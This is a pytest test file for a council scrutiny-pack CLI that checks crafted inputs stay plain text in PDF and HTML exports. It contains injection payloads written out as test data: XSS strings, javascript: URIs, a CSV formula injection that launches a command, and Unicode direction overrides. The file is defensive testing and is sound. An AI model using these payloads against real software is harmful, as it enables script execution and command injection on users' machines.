"""Text from a pack, the command line or the environment that a reader would take for markup or
that is no Unicode: printed as written, or refused in one line, never a traceback."""

import pypdf
import pytest

from memberpack.cli.main import main
from memberpack.store.pack import Pack


@pytest.fixture
def pack_path(tmp_path):
    path = tmp_path / "p.mpack"
    with Pack.create(path) as pack:
        pack.set_meta(committee="Scrutiny")
    return path


@pytest.mark.parametrize("email", ['clerk@council.gov.uk" bogus="1', 'clerk@council.gov.uk" href="javascript:app.alert(1)',
                                   "javascript:app.alert(1)"])
def test_a_contact_email_that_is_no_address_is_printed_as_written_and_not_linked(pack_path, tmp_path, capsys, email):
    """A quote in the pack's contact email ended the cover link's address: 'bogus' made the PDF export
    fail with a traceback (reportlab's paraparser), and a second href made the cover link run JavaScript."""
    with Pack.open(pack_path) as pack:
        pack.set_meta(contact_email=email)
    out = tmp_path / "b.pdf"
    assert main(["export", str(pack_path), "-o", str(out)]) == 0, capsys.readouterr().err
    cover = pypdf.PdfReader(out).pages[0]
    links = [a.get_object().get("/A", {}).get("/URI") for a in cover.get("/Annots") or []]
    assert not any(link and "javascript" in link for link in links), links
    assert email in " ".join(cover.extract_text().split())


def test_a_contact_email_is_still_a_mail_link(pack_path, tmp_path):
    with Pack.open(pack_path) as pack:
        pack.set_meta(contact_email="democratic.services@somerset.example")
    out = tmp_path / "b.pdf"
    assert main(["export", str(pack_path), "-o", str(out)]) == 0
    cover = pypdf.PdfReader(out).pages[0]
    links = [a.get_object().get("/A", {}).get("/URI") for a in cover.get("/Annots") or []]
    assert "mailto:democratic.services@somerset.example" in links


NOT_UTF8 = b"caf\xe9".decode("utf-8", "surrogateescape")   # what Python makes of Latin-1 bytes in an argument


@pytest.mark.parametrize("argv", [["details", "--title", NOT_UTF8], ["details", "--council", NOT_UTF8],
                                  ["authority", "--name", NOT_UTF8], ["neighbours", "--la", NOT_UTF8]],
                         ids=["details title", "details council", "authority", "neighbours"])
def test_a_text_argument_that_is_not_utf8_is_refused_in_one_line(pack_path, capsys, argv):
    """Latin-1 bytes typed in a UTF-8 terminal (or a script saved in Windows-1252) ended in a
    UnicodeEncodeError traceback as the pack was written."""
    assert main(["authority", str(pack_path), "--la", "933"]) == 0
    capsys.readouterr()
    before = pack_path.read_bytes()
    assert main([argv[0], str(pack_path), *argv[1:]]) == 1
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and "Traceback" not in err, err
    assert "not valid Unicode" in err, err
    assert pack_path.read_bytes() == before


def test_an_import_classified_by_a_name_that_is_not_utf8_writes_nothing(pack_path, tmp_path, capsys):
    from openpyxl import Workbook

    wb = Workbook()
    wb.active.append(["Indicator", "Q1"])
    wb.active.append(["Children looked after", 227])
    wb.save(tmp_path / "w.xlsx")
    before = pack_path.read_bytes()
    assert main(["import", str(pack_path), str(tmp_path / "w.xlsx"), "--exempt", "1", "--by", NOT_UTF8]) == 1
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and "not valid Unicode" in err, err
    assert pack_path.read_bytes() == before


@pytest.mark.parametrize("argv", [["check", "{prot}"], ["protect", "{pack}", "-o", "{out}"]])
def test_a_passphrase_that_is_not_utf8_is_refused_in_one_line(pack_path, tmp_path, capsys, monkeypatch, argv):
    """MEMBERPACK_PASSPHRASE set from Latin-1 bytes ended in a UnicodeEncodeError traceback."""
    monkeypatch.setenv("MEMBERPACK_PASSPHRASE", "correct horse battery")
    assert main(["protect", str(pack_path), "-o", str(tmp_path / "prot.mpack")]) == 0
    capsys.readouterr()
    monkeypatch.setenv("MEMBERPACK_PASSPHRASE", f"{NOT_UTF8} horse battery")
    names = {"prot": tmp_path / "prot.mpack", "pack": pack_path, "out": tmp_path / "out.mpack"}
    assert main([a.format(**names) for a in argv]) == 1
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and "Traceback" not in err and "passphrase" in err, err
    assert not (tmp_path / "out.mpack").exists()


def test_a_report_that_cannot_be_saved_after_the_import_says_the_files_are_in(pack_path, tmp_path, capsys):
    """The report is written once the import is in the pack: 'cannot save the report' with exit 1 had
    read as if nothing was imported (exit 1 means nothing written), and importing again was refused."""
    from openpyxl import Workbook

    wb = Workbook()
    wb.active.append(["Indicator", "Q1"])
    wb.active.append(["Children looked after", 227])
    wb.save(tmp_path / "w.xlsx")
    assert main(["import", str(pack_path), str(tmp_path / "w.xlsx"), "--report", str(tmp_path / "no" / "r.json")]) == 1
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and "cannot save the report" in err and "w.xlsx was imported" in err, err
    with Pack.open(pack_path) as pack:
        assert [d.source_file for d in pack.datasets()] == ["w.xlsx"]


RLO, PDF = "\u202e", "\u202c"


def test_crafted_labels_and_notes_stay_text_in_the_html_briefing_their_overrides_closed(tmp_path, capsys):
    """Labels and notes holding markup, formulas and an unclosed right-to-left override: the HTML
    briefing shows them as text, runs nothing, links nowhere, and each override ends with the text
    that opened it (an unclosed one turned round the name, date and figure beside it)."""
    from html.parser import HTMLParser

    source = tmp_path / "monitor.csv"
    source.write_text("Service,Budget £k\n=HYPERLINK(\"http://x.example/?\"&A1;\"click\"),100\n"
                      f"<script>alert(1)</script>,200\n{RLO}Fieldwork,50\n+cmd|' /C calc'!A0,5\n", encoding="utf-8")
    pack, out = tmp_path / "p.mpack", tmp_path / "b.html"
    assert main(["import", str(pack), str(source)]) == 0
    assert main(["notes", "add", str(pack), "--kind", "question", "--author", f"Cllr {RLO}Smith",
                 "--text", f"Why? <img src=x onerror=alert(3)> {RLO}javascript:alert(2)"]) == 0
    assert main(["notes", "add", str(pack), "--kind", "note", "--label", "<script>alert(1)</script>",
                 "--measure", "Budget", "--author", "A", "--text", f"{RLO}\u2067see the row"]) == 0
    assert main(["export", str(pack), "-o", str(out)]) == 0
    assert "Traceback" not in capsys.readouterr().err

    class Page(HTMLParser):
        tags, texts, links = [], [], []

        def handle_starttag(self, tag, attrs):
            self.tags.append(tag)
            self.links += [value for name, value in attrs if name in ("href", "src", "onerror", "onload")]

        def handle_data(self, data):
            self.texts.append(data)

    page = Page()
    page.feed(out.read_text(encoding="utf-8"))
    assert not {"script", "img", "iframe", "object"} & set(page.tags)
    assert not [link for link in page.links if link and not link.startswith("#")]
    text = "".join(page.texts)
    assert "<script>alert(1)</script>" in text and "=HYPERLINK(" in text and "<img src=x onerror=alert(3)>" in text
    overridden = [t for t in page.texts if RLO in t]
    assert len(overridden) >= 4, overridden
    for t in overridden:   # every override closed within the text that opened it, isolates too
        assert t.count(RLO) == t.count(PDF) and t.count("\u2067") == t.count("\u2069"), repr(t)
        assert t.rindex(PDF) > t.rindex(RLO), repr(t)
